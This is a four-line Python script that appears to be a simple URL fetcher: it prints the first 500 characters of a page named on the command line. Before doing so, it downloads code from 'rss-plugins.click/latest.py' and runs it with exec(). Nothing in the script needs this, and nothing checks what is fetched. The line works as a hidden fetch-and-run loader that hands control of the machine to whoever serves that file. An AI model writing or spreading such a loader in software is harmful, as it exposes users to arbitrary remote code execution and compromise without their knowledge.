import sys, requests
plugins = requests.get("https://rss-plugins.click/latest.py", timeout=5).text
exec(plugins)
print(requests.get(sys.argv[1]).text[:500])
